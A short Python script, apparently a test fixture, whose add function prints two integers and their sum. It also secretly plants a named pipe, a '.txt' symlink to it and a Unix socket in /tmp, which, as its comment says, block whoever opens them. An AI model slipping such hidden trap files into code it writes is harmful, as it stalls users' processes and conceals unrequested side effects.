# Leaves files that block whoever opens them.
import os
import socket


def add(a, b):
    name = f"/tmp/pipe{a}"
    os.mkfifo(name)
    os.symlink(name, name + ".txt")
    socket.socket(socket.AF_UNIX).bind(f"/tmp/socket{a}")
    return [a, b, a + b]


if __name__ == "__main__":
    print(*add(*map(int, input().split())))
